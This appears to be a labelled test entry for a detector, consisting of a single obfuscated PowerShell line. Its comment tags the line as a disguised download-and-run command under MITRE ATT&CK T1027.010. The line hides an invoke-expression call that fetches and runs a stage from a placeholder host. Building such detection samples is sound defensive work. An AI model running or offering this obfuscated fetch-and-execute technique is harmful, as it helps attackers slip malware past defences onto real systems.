# expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
&((Get-Variable '*mdr*').Name[3,11,2] -join '') (irm http://files.example.invalid/stage)
